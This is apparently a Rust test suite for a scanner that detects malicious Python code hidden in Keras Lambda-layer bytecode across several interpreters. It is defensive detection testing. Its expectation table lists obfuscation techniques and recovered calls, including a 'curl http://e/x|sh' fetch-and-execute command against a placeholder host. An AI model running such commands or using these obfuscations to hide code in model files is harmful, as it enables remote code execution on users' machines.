//! The evaluator on the 22 interpreter samples × 7 interpreters: the expected sinks of
//! python-code-objects.md §8 are found on every version, and none for benign code.

mod common;

use keras_sentinel::container::json::Json;
use keras_sentinel::limits::Limits;
use keras_sentinel::python::payload::a2b_base64;
use keras_sentinel::python::{analyze, Classification, FunctionInput};
use serde_json::Value;

use common::shared;
use Classification::{Benign as B, Malicious as M, Suspicious as S};

/// (sample, expected class, a resolved call or recovered string that must appear).
const EXPECT: &[(&str, Classification, &str)] = &[
    ("os_system", M, "os.system('id')"),
    ("benign", B, ""),
    ("b64_exec", M, "builtins.exec('print(1)')"),
    ("getattr_concat", M, "os.system('curl http://e/x|sh')"),
    ("chr_join_genexpr", M, "builtins.eval('__import__')"),
    ("chr_join_list", M, "builtins.eval('os')"),
    ("rot13", S, "codecs.decode('bf', 'rot13')"),
    ("fromhex", M, "os.system('id')"),
    ("reverse_slice", M, "os.system('id')"),
    ("var_slice", B, ""),
    ("defaults", B, ""),
    ("kwcall", M, "subprocess.run('id', shell=True)"),
    ("popen_read", M, "os.popen('id')"),
    ("fstring", B, ""),
    ("consts", B, ""),
    ("nested_lambda", B, ""),
    ("attr_chain", M, ""),
    ("builtins_getattr", M, "builtins.eval('1+1')"),
    ("globals_import", M, "os.system('id')"),
    ("tf_like", B, ""),
    ("long_code", B, ""),
    ("closure", M, "os.system('id')"),
];

#[test]
fn evaluator_finds_the_expected_sinks_on_every_version() {
    let Some(_) = common::shared_or_skip("reference") else { return };
    let mut checked = 0;
    let mut failures = Vec::new();
    for entry in std::fs::read_dir(shared("reference/interpreters")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().and_then(|e| e.to_str()) != Some("json") {
            continue;
        }
        let v: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
        let file = path.file_name().unwrap().to_string_lossy().to_string();
        for &(name, want, evidence) in EXPECT {
            let s = &v["samples"][name];
            assert!(s.is_object(), "{file}: sample {name} missing");
            let code = a2b_base64(s["b64"].as_str().unwrap().as_bytes()).unwrap().bytes;
            // The two samples with bound values: `defaults` (3, 'id') and `closure` (3, 'id').
            let bound = Json::Arr(vec![Json::Num("3".into()), Json::Str("id".into())]);
            let input = FunctionInput {
                code: &code,
                defaults: (name == "defaults").then_some(&bound),
                closure: (name == "closure").then_some(&bound),
                arguments: None,
                module: None,
            };
            let a = analyze(&input, &Limits::default());
            checked += 1;
            let found =
                evidence.is_empty() || a.calls.iter().any(|c| c == evidence) || a.strings.iter().any(|c| c == evidence);
            if a.classification != want || !found || a.python_version.is_none() || a.source.is_none() {
                failures.push(format!(
                    "{file}/{name}: got {:?} (want {want:?}), version {:?}\n  source {:?}\n  calls {:?}\n  strings {:?}\n  notes {:?}",
                    a.classification, a.python_version, a.source, a.calls, a.strings, a.notes
                ));
            }
        }
    }
    assert_eq!(checked, 22 * 7);
    assert!(failures.is_empty(), "{} of {checked} samples wrong:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn sources_are_readable() {
    let Some(_) = common::shared_or_skip("reference") else { return };
    let v: Value =
        serde_json::from_str(&std::fs::read_to_string(shared("reference/interpreters/pyodide-0.28.3.json")).unwrap())
            .unwrap();
    let render = |name: &str| {
        let code = a2b_base64(v["samples"][name]["b64"].as_str().unwrap().as_bytes()).unwrap().bytes;
        let input = FunctionInput { code: &code, defaults: None, closure: None, arguments: None, module: None };
        analyze(&input, &Limits::default()).source.unwrap_or_default()
    };
    assert_eq!(render("os_system"), "lambda x: __import__('os').system('id')");
    // The source reads as written (issue 12); the deobfuscated call is in `calls`.
    assert_eq!(render("reverse_slice"), "lambda x: __import__('so'[::-1]).system('di'[::-1])");
    assert_eq!(render("tf_like"), "lambda x: tf.nn.relu(x) * K.sigmoid(x)");
}
